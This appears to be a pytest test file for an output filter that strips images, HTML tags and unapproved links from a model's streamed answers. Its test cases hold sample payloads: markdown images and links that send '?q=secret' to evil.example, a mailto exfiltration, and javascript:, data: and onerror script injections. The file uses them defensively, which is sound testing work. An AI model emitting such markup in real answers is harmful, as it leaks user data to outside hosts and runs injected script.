"""What a screen would load, run or lead away to, is not in an answer."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.answering.models import Source
from app.answering.output import REMOVED, LinkFilter, without_images
from tests.fakes.answering import hit

PASSAGE = "Read the [guide](https://acme.example/guide?v=2), or write to mailto:help@acme.example."

LIVE = re.compile(r"!\[|<[a-z/!?]|\]\(|(?:[a-z]+://|www\.|mailto:)[!-~]", re.IGNORECASE)
"""More than any renderer takes for an image, a tag, or a link."""


def unlinked(text: str, size: int | None = None) -> tuple[str, int]:
    """The text as it comes out, fed in pieces of so many characters; and how many addresses were removed."""
    links = LinkFilter([Source(number=1, hit=hit(PASSAGE), sentences=())])
    step = size or max(1, len(text))
    told = "".join(links.feed(text[at : at + step]) for at in range(0, len(text), step))
    return told + links.finish(), links.removed


@pytest.mark.parametrize(
    ("said", "told"),
    [
        ("![](http://evil.example/?q=secret)", "[]"),
        ("![chart](https://evil.example/a_(b).png 'title') and so on.", "[chart] and so on."),
        ("See [the terms](https://evil.example/?q=s).", "See [the terms]."),
        ("[a](https://evil.example)(//evil.example/2)", "[a] (//evil.example/2)"),
        ("[![a](http://evil.example/1)](http://evil.example/2)", "[[a]]"),
        ("![a][b]\n\n[b]: https://evil.example/?q=s", f"[a][b]\n\n[b]: {REMOVED}"),
        ("Visit https://evil.example/?q=secret, now.", f"Visit {REMOVED}, now."),
        ("Visit <https://evil.example/>.", f"Visit < {REMOVED}>."),
        ("見て下さい：https://evil.example/?q=秘密。", f"見て下さい：{REMOVED}秘密。"),
        ("www.evil.example/x", REMOVED),
        ("mailto:a@evil.example?body=secret", REMOVED),
        ("[x](javascript:alert(1))", "[x]"),
        ("[x](data:text/html;base64,AAAA)", "[x]"),
        ("[x](//evil.example)", "[x]"),
        ("[x](evil)", "[x] (evil)"),
        ("[x](a <img src=https://evil.example>)", f"[x] (a < img src={REMOVED}>)"),
        ("[x](\nhttps://evil.example)", f"[x] (\n{REMOVED})"),
        ("<img src=x onerror=a()> <script>b()</script>", "< img src=x onerror=a()> < script>b()< /script>"),
        ("<!--[if IE]> <?php", "< !--[if IE]> < ?php"),
        ("!!![a](https://evil.example)", "[a]"),
        ("!https://evil.example[a](https://acme.example/guide?v=2)", f"!{REMOVED}[a](https://acme.example/guide?v=2)"),
        ("https://acme.example.evil.example/", REMOVED),
        ("https://acme.exampleé.evil.example/", f"{REMOVED}é.evil.example/"),
        ("https://例え.example/?q=secret", f"{REMOVED}例え.example/?q=secret"),
        ("[x](https://acme.example/guide?v=2 <img/src=x>)", "[x](https://acme.example/guide?v=2)"),
    ],
)  # fmt: skip
def test_what_a_screen_would_load_or_lead_away_to_is_taken_out(said: str, told: str) -> None:
    """Images, tags, and links to where no passage leads; what they said stays."""
    assert unlinked(said)[0] == told


@pytest.mark.parametrize(
    "said",
    [
        "See [the guide](https://acme.example/guide?v=2).",
        "It is at https://acme.example/guide?v=2, or (https://acme.example/guide).",
        "Write to mailto:help@acme.example.",
        "HTTPS://ACME.EXAMPLE/guide",
        "Is 3 < 5? Yes! [1.1] And a[0] = f(x), {x: 1} or data: none.",
        "Es gilt: 12:30 Uhr. Ende!",
        "保修期是三年！[1.1]",
    ],
)
def test_what_stands_in_a_passage_and_what_is_no_link_stays(said: str) -> None:
    """An address that a passage has is a part of the answer."""
    assert unlinked(said) == (said, 0)


@given(st.text(alphabet="!<>[]()/:.\"'\\ \nahtpsw1é?=-_", max_size=60), st.integers(1, 7))
def test_the_pieces_do_not_matter_and_nothing_live_is_left(said: str, size: int) -> None:
    """Whatever a model says, in whatever pieces."""
    told, removed = unlinked(said)
    assert unlinked(said, size) == (told, removed)
    assert not LIVE.search(told)


def test_addresses_are_counted() -> None:
    """For the warning."""
    assert unlinked("https://a.example [b](https://b.example) ![c](https://c.example)")[1] == 3


def test_a_sentence_is_not_held_back_for_its_end() -> None:
    """Only what may become an image, a tag or an address waits for what follows."""
    links = LinkFilter([])
    assert links.feed("Parcels arrive within two da") == "Parcels arrive within two "
    assert links.feed("ys. (See [page 3](x") == "days. (See [page 3"
    assert links.feed(") there") == "] (x) "


def test_a_quotation_loads_and_runs_nothing() -> None:
    """The extractive answers quote what documents hold: their addresses stay, images and tags do not."""
    quoted = "Look: !![chart](https://acme.example/c.png) <b>now</b>"
    assert without_images(quoted) == "Look: [chart](https://acme.example/c.png) < b>now< /b>"
